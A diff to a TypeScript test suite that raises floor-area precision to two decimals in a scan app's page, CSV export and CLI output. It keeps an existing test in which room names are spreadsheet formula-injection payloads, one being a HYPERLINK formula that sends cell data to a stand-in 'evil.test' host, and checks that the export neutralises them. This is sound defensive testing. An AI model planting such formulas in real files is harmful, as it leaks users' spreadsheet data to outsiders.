@@ -29,9 +29,9 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
   it('the page shows each room’s figures, the totals and a plan; the CSV has the same numbers; the bytes stay exact', async () => {
     const page = await get(ws(`/scans/${scanId}`));
     expect(page.statusCode).toBe(200);
-    // 4.2 × 3.1 = 13.02 m² and 1.5 × 5 = 7.5 m²: 20.5 m² in all.
-    expect(page.body).toContain('<td data-label="Floor area" class="num" id="total-floor-area">20.5 m²</td>');
-    expect(page.body).toMatch(/title="floor outline \(polygonCorners\)">13\.0 m²</);
+    // 4.2 × 3.1 = 13.02 m² and 1.5 × 5 = 7.5 m²: 20.52 m² in all: areas to 0.01 m² on the page and in the CSV.
+    expect(page.body).toContain('<td data-label="Floor area" class="num" id="total-floor-area">20.52 m²</td>');
+    expect(page.body).toMatch(/title="floor outline \(polygonCorners\)">13\.02 m²</);
     expect(page.body).toContain('do not close around the floor');
     expect(page.body.match(/<svg class="floor-plan"/g)).toHaveLength(2);
     // The room that was not read: said so, its JSON shown escaped, never run.
@@ -43,8 +43,8 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
     expect(csv.statusCode).toBe(200);
     const rows = parse(csv.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;
     expect(rows.map((r) => [r.name, r.floorArea_m2, r.recognized])).toEqual([
-      ['Kitchen', '13.0', 'yes'],
-      ['Hall', '7.5', 'yes'],
+      ['Kitchen', '13.02', 'yes'],
+      ['Hall', '7.50', 'yes'],
       ['<b>Attic</b>', '', 'no'],
     ]);
     for (const row of rows.filter((r) => r.floorArea_m2)) expect(page.body).toContain(`>${row.floorArea_m2} m²<`);
@@ -52,7 +52,7 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
     const bytes = await get(ws(`/scans/${scanId}/body`));
     expect(bytes.body).toBe(body);
     // The list shows the scan's total, from the kept figures (no body is read to list).
-    expect((await get(ws('/scans?scans=all'))).body).toContain('<td data-label="Floor area" class="num">20.5 m²</td>');
+    expect((await get(ws('/scans?scans=all'))).body).toContain('<td data-label="Floor area" class="num">20.52 m²</td>');
   });
 
   it('room names that a spreadsheet would run are guarded in the CSV; the numbers stay numbers', async () => {
@@ -66,9 +66,9 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
     const rows = parse(csv.rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>;
     expect(rows.map((r) => r.name)).toEqual([`'=HYPERLINK("http://evil.test/?"&A1,"click")`, "'@SUM(1+1)", "'+1+2;'=3"]);
     expect(rows.map((r) => [r.room, r.floorArea_m2, r.perimeter_m, r.doors])).toEqual([
-      ['1', '8.0', '12.00', '0'],
-      ['2', '12.0', '14.00', '0'],
-      ['3', '16.0', '16.00', '0'],
+      ['1', '8.00', '12.00', '0'],
+      ['2', '12.00', '14.00', '0'],
+      ['3', '16.00', '16.00', '0'],
     ]);
     // No cell, split on `;` or `,` as some spreadsheets do, begins a formula.
     const text = csv.rawPayload.toString('utf8');
@@ -106,6 +106,6 @@ describeEachBackend('scan measurements on the Scans screens, in the CSV and the 
     const measured = await cliJson<{ floorArea: number; units: string; table: { rows: string[][] } }>(['scans', 'measure', scanId], env);
     expect(measured.units).toBe('metric');
     expect(measured.floorArea).toBeCloseTo(20.52, 2);
-    expect(measured.table.rows.map((r) => [r[1], r[3]])).toEqual([['Kitchen', '13.0'], ['Hall', '7.5'], ['<b>Attic</b>', '']]);
+    expect(measured.table.rows.map((r) => [r[1], r[3]])).toEqual([['Kitchen', '13.02'], ['Hall', '7.50'], ['<b>Attic</b>', '']]);
   });
 });
